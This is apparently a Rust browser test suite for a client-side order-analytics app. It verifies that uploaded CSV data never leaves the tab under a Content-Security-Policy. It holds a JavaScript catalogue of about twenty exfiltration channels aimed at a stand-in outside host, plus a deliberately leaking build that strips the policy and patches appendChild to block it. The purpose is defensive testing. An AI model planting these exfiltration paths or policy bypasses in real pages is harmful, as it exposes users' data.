//! Nothing leaves the tab once files are opened: judged by what the host and a sink for all other hosts were asked, and
//! held against a build that leaks on purpose.

use crate::support::{Answer, Browser, SILENCE, Site, app, exports, run};
use std::time::Duration;

/// Tries every way out that a page has; `own` is its host's address, `other` another host's. Each try carries its name.
const WAYS_OUT: &str = r#"
const [own, other] = arguments;
const quietly = (way) => { try { Promise.resolve(way()).catch(() => {}); } catch {} };
const put = (name, more) => document.head.append(Object.assign(document.createElement(name), more));
const inWorker = (text) => {
  const kind = { type: "text/javascript" };
  new Worker(URL.createObjectURL(new Blob([text], kind)));
};
for (const [where, base] of [["own", own], ["other", other]]) {
  const to = (way) => `${base}/leak-${way}-${where}`;
  quietly(() => fetch(to("fetch"), { mode: "no-cors" }));
  quietly(() => fetch(to("post"), { mode: "no-cors", method: "POST", body: "rows" }));
  quietly(() => fetch(to("keepalive"), { mode: "no-cors", keepalive: true }));
  quietly(() => navigator.sendBeacon(to("beacon"), "rows"));
  quietly(() => { const asked = new XMLHttpRequest(); asked.open("GET", to("xhr")); asked.send(); });
  quietly(() => new EventSource(to("events")));
  quietly(() => new WebSocket(to("socket").replace("http", "ws")));
  quietly(() => { new Image().src = to("image"); });
  quietly(() => put("script", { src: to("script") }));
  quietly(() => put("script", { src: to("module"), type: "module" }));
  quietly(() => put("link", { rel: "stylesheet", href: to("style") }));
  quietly(() => put("link", { rel: "prefetch", href: to("prefetch") }));
  quietly(() => put("link", { rel: "manifest", href: to("manifest") }));
  quietly(() => document.body.append(Object.assign(document.createElement("iframe"), { src: to("frame") })));
  quietly(() => document.body.append(Object.assign(document.createElement("object"), { data: to("object") })));
  quietly(() => document.body.append(Object.assign(document.createElement("video"), { src: to("video") })));
  quietly(() => new FontFace("leak", `url(${to("font")})`).load());
  quietly(() => import(to("import")));
  quietly(() => inWorker(`fetch("${to("workerfetch")}", { mode: "no-cors" })`));
  quietly(() => inWorker(`importScripts("${to("workerimport")}")`));
  quietly(() => new Worker(to("worker")));
}
"#;

/// The ways that a page without a policy must be caught using, whatever the browser thinks of the others.
const CAUGHT: [&str; 16] = [
    "fetch",
    "post",
    "keepalive",
    "beacon",
    "xhr",
    "events",
    "socket",
    "image",
    "script",
    "style",
    "frame",
    "object",
    "font",
    "import",
    "workerfetch",
    "workerimport",
];

/// Everything that reached the host or the sink since two marks.
fn left(browser: &Browser, site: &Site, marks: (usize, usize)) -> Vec<String> {
    let host = site.since(marks.0).into_iter().map(|asked| asked.to_string());
    host.chain(browser.sink.since(marks.1)).collect()
}

fn marks(browser: &Browser, site: &Site) -> (usize, usize) {
    (site.mark(), browser.sink.mark())
}

async fn is_locked(browser: &Browser) -> bool {
    let body = "return [...document.querySelectorAll('meta[http-equiv]')].some((meta) => meta.content.includes(\"connect-src 'none'\") || meta.content.startsWith(\"default-src 'none'\") && !meta.content.includes('connect-src'))";
    browser.js(body).await == true
}

/// A build whose worker can be made to stop as a trap makes it stop.
fn with_a_worker_that_can_crash(name: &str, mut answer: Answer) -> Answer {
    if name.starts_with("worker-") && name.ends_with(".js") {
        answer.body.extend_from_slice(
            b"\nnew BroadcastChannel('crash').onmessage = () => setTimeout(() => { throw new Error('unreachable'); });",
        );
    }
    answer
}

/// The whole way of a person: two files, every page, both languages, files taken away, a worker that crashes.
async fn journey(browser: &Browser) {
    let first = exports::write(&browser.scratch, "orders_1.csv", exports::shopify(1000, 900));
    let second = exports::write(&browser.scratch, "orders_2.csv", exports::shopify(5000, 300));
    app::give(browser, &[&first]).await;
    app::has_rows_kept(browser, 900).await;
    for page in ["overview", "retention", "rfm", "definitions", "privacy"] {
        app::go(browser, page).await;
    }
    app::give(browser, &[&second]).await;
    app::has_rows_kept(browser, 1200).await;
    app::go(browser, "retention").await;
    browser.click("[data-test=json]").await;
    browser.js("const list = document.querySelector('[data-test=language]'); list.value = 'fa'; list.dispatchEvent(new Event('change'))").await;
    browser.wait_js("Persian", "return document.querySelector('[lang=fa][dir=rtl]') !== null").await;
    app::settled(browser).await;
    browser.js("const list = document.querySelector('[data-test=language]'); list.value = 'en'; list.dispatchEvent(new Event('change'))").await;
    browser.wait_js("English", "return document.querySelector('.perennial[lang=en]') !== null").await;
    browser.js("new BroadcastChannel('crash').postMessage('now')").await;
    browser.wait_js("the word of the restart", "return document.querySelector('[data-test=error]') !== null").await;
    app::go(browser, "files").await;
    app::has_rows_kept(browser, 1200).await;
    app::go(browser, "overview").await;
    app::measure(browser, "revenue").await;
}

#[test]
fn nothing_leaves_the_tab_over_the_whole_journey() {
    run(async |browser| {
        let site = Site::changed("/", with_a_worker_that_can_crash);
        app::open(&browser, &site, "#/overview").await;
        let before = marks(&browser, &site);
        journey(&browser).await;
        assert!(is_locked(&browser).await, "the document is locked");
        assert_eq!(left(&browser, &site, before), Vec::<String>::new(), "after the page had started");

        // A reload starts anew: the page's own files and nothing else, then nothing again.
        let before_reload = marks(&browser, &site);
        app::go(&browser, "retention").await;
        browser.client.refresh().await.unwrap();
        app::started(&browser, &site).await;
        for asked in site.since(before_reload.0) {
            assert_eq!((asked.method.as_str(), asked.body_bytes), ("GET", 0), "{asked}");
            assert!(!asked.address.contains(['?', '%', '&']), "only names of files: {asked}");
        }
        assert_eq!(browser.sink.since(before_reload.1), Vec::<String>::new(), "the reload");
        let after_reload = marks(&browser, &site);
        let file = exports::write(&browser.scratch, "orders_3.csv", exports::shopify(9000, 90));
        app::give(&browser, &[&file]).await;
        app::has_rows_kept(&browser, 90).await;
        assert_eq!(left(&browser, &site, after_reload), Vec::<String>::new(), "after the reload");
    });
}

#[test]
fn a_build_that_leaks_on_purpose_is_caught() {
    run(async |browser| {
        let site = Site::changed("/", |name, answer| {
            if name != "index.html" {
                return with_a_worker_that_can_crash(name, answer);
            }
            // No policy, and no lock either: an element that would bring one is not put in.
            let page = String::from_utf8(answer.body).unwrap();
            let page = page.replace("http-equiv=\"Content-Security-Policy\"", "name=\"no-policy\"");
            let no_lock = "<head><script>const real = Node.prototype.appendChild; Node.prototype.appendChild = \
                           function (node) { return node.httpEquiv ? node : real.call(this, node); };</script>";
            Answer::found(name, page.replace("<head>", no_lock).into_bytes())
        });
        app::open(&browser, &site, "#/overview").await;
        let before = marks(&browser, &site);
        journey(&browser).await;
        browser.js_with(WAYS_OUT, vec![site.origin().into(), "http://elsewhere.example".into()]).await;
        tokio::time::sleep(Duration::from_secs(3)).await;
        let left = left(&browser, &site, before).join("\n");
        let missed: Vec<String> = CAUGHT
            .iter()
            .flat_map(|way| ["own", "other"].map(|place| format!("leak-{way}-{place}")))
            .filter(|leak| !left.contains(leak))
            .collect();
        assert_eq!(missed, Vec::<String>::new(), "of what left the page:\n{left}");
    });
}

#[test]
fn a_locked_page_has_no_way_out() {
    run(async |browser| {
        let site = Site::new("/");
        app::open(&browser, &site, "#/overview").await;
        let file = exports::write(&browser.scratch, "orders.csv", exports::shopify(1000, 300));
        app::give(&browser, &[&file]).await;
        app::has_rows_kept(&browser, 300).await;
        assert!(is_locked(&browser).await);
        let before = marks(&browser, &site);
        browser.js_with(WAYS_OUT, vec![site.origin().into(), "http://elsewhere.example".into()]).await;
        tokio::time::sleep(Duration::from_secs(3)).await;
        // Chromium may open a connection ahead of a request that the policy then stops; nothing is said on it.
        let mut left = left(&browser, &site, before);
        left.retain(|words| words != SILENCE);
        assert_eq!(left, Vec::<String>::new());
        // The panel counts what was tried.
        app::go(&browser, "privacy").await;
        let counted = "return Number(document.querySelector('[data-test=violations]')?.dataset.value) > 10";
        browser.wait_js("the violations counted", counted).await;
    });
}
